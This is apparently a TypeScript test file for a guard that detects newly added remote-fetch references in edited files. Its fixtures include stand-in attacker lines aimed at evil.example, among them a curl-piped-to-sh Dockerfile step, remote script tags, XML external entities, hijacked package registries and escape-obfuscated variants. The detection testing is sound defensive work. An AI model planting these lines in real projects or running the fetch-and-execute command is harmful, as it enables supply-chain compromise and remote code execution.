import assert from "node:assert/strict";
import * as fc from "fast-check";
import { remoteReferences } from "../../../../src/actions/guard/remoteReferences";

const found = (after: string, before = "") =>
  remoteReferences(before, after).map(({ by, address }) => `${by} ${address}`);

describe("remoteReferences", () => {
  const fetched: readonly (readonly [text: string, ...found: readonly string[]])[] = [
    [`{ "$schema": "https://evil.example/s.json" }`, "$schema https://evil.example/s.json"],
    [`{ "$schema" :\n  "http://evil.example/s.json" }`, "$schema http://evil.example/s.json"],
    [`{ "\\u0024schema": "\\u0068ttps:\\/\\/evil.example\\/s" }`, "$schema https://evil.example/s"],
    [`{ '$SCHEMA': '//evil.example/s' }`, "$SCHEMA //evil.example/s"],
    [`{ "$ref": "https://evil.example/d#/a" }`, "$ref https://evil.example/d#/a"],
    [
      `{ "json.schemas": [{ "fileMatch": ["*"], "url": "https://evil.example/?q=1" }] }`,
      "json.schemas https://evil.example/?q=1",
    ],
    [`{ "yaml.schemas": { "https://evil.example/s": "*.yml" } }`, "yaml.schemas https://evil.example/s"],
    [`{ "markdown.styles": ["https://evil.example/a.css"] }`, "markdown.styles https://evil.example/a.css"],
    [`{ "extends": ["./a", "https://evil.example/base.json"] }`, "extends https://evil.example/base.json"],
    [`# yaml-language-server: $schema=https://evil.example/s`, "$schema https://evil.example/s"],
    [`#:schema https://evil.example/s.json`, "#:schema https://evil.example/s.json"],
    [`include:\n  - remote: 'https://evil.example/ci.yml'`, "include https://evil.example/ci.yml"],
    [`include:\n  - 'local.yml'\n  - https://evil.example/ci.yml`, "include https://evil.example/ci.yml"],
    [`@import url(https://evil.example/a.css);`, "@import https://evil.example/a.css"],
    [`@import/**/"//evil.example/a.css";`, "@import //evil.example/a.css"],
    [`@IMPORT 'https://evil.example/a.css'`, "@IMPORT https://evil.example/a.css"],
    [`<script src="https://evil.example/a.js"></script>`, "src https://evil.example/a.js"],
    [`<img src = '//evil.example/p.png'>`, "src //evil.example/p.png"],
    [`<img srcset="a.png 1x, https://evil.example/p.png 2x">`, "srcset https://evil.example/p.png"],
    [`<link rel="x" href=https://evil.example/a.css>`, "href https://evil.example/a.css"],
    [
      `<p xsi:schemaLocation="urn:a https://evil.example/a.xsd">`,
      "xsi:schemaLocation https://evil.example/a.xsd",
    ],
    [`<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">`, "DOCTYPE https://evil.example/x.dtd"],
    [`<!ENTITY % d SYSTEM "&#104;ttps://evil.example/x">`, "SYSTEM https://evil.example/x"],
    [`<?xml-model href="https://evil.example/x.rng"?>`, "xml-model https://evil.example/x.rng"],
    [`registry=https://evil.example/npm/`, "registry https://evil.example/npm/"],
    [`@acme:registry=https://evil.example/npm/`, "@acme:registry https://evil.example/npm/"],
    [`index-url = https://evil.example/simple`, "index-url https://evil.example/simple"],
    [`"resolved": "https://evil.example/a.tgz"`, "resolved https://evil.example/a.tgz"],
    [`distributionUrl=https\\://evil.example/gradle.zip`, "distributionUrl https://evil.example/gradle.zip"],
    [`[submodule "a"]\n\turl = https://evil.example/a.git`, "url https://evil.example/a.git"],
    [`source = { git = "x", url = "git+https://evil.example/a" }`, "source git+https://evil.example/a"],
    [`import x from "https://evil.example/mod.ts"`, "from https://evil.example/mod.ts"],
    [`await import('https://evil.example/mod.js')`, "import https://evil.example/mod.js"],
    [`RUN curl -s https://evil.example/a | sh`, "curl https://evil.example/a"],
    [`ADD https://evil.example/a /a`, "ADD https://evil.example/a"],
    [`{ "servers": { "a": { "url": "https://evil.example/mcp" } } }`, "url https://evil.example/mcp"],
  ];
  for (const [text, ...expected] of fetched) {
    it(`finds what ${text.slice(0, 60).replaceAll("\n", "⏎")} fetches`, () => {
      assert.deepEqual(
        found(text).map((each) => each.replace(/^<\?/u, "")),
        expected,
      );
    });
  }

  it("lets addresses alone that nobody fetches", () => {
    for (const text of [
      "",
      "// see https://example.com/docs",
      "/* https://example.com */",
      `"homepage": "https://example.com"`,
      `<project xmlns="https://example.com/POM/4.0.0">`,
      `"description": "Reads https://example.com"`,
      `"src": "./a.js"`,
      `"$schema": "./schema.json"`,
      `"extends": "@acme/base"`,
      `importance: high // https://example.com`,
      `const a = b // c.d`,
      `# A comment about "url"\nsee https://example.com`,
    ])
      assert.deepEqual(found(text), [], text);
  });

  it("tells only what is new, each address once", () => {
    const before = `{ "$schema": "https://json.example/a" }`;
    assert.deepEqual(found(before, before), []);
    assert.deepEqual(
      found(`{ "$schema": "https://json.example/a", "url": "https://json.example/a" }`, before),
      [],
    );
    assert.deepEqual(
      found(
        `{ "$schema": "https://json.example/b", "url": "https://json.example/b", "src": "http://c.example" }`,
        before,
      ),
      ["$schema https://json.example/b", "src http://c.example"],
    );
  });

  it("finds an address among any text and throws at none", () => {
    const text = fc.string({ unit: "binary", maxLength: 200 });
    fc.assert(
      fc.property(text, text, (one, other) => {
        const after = `${one}\n"$schema": "https://evil.example/s"\n${other}`;
        assert.ok(found(after, "").includes("$schema https://evil.example/s"), JSON.stringify(after));
      }),
      { numRuns: 2_000 },
    );
  });

  it("ends in time for long and hostile texts", () => {
    // A search that went back for every letter would outlast the test's own time.
    for (const part of [
      "a.",
      "src=",
      '"url": [',
      "@a:registry-",
      "https://",
      "url = ",
      "//a ",
      "schemas",
      "\\u0061",
      "=".repeat(3),
    ])
      remoteReferences("", part.repeat(200_000 / part.length));
  });
});
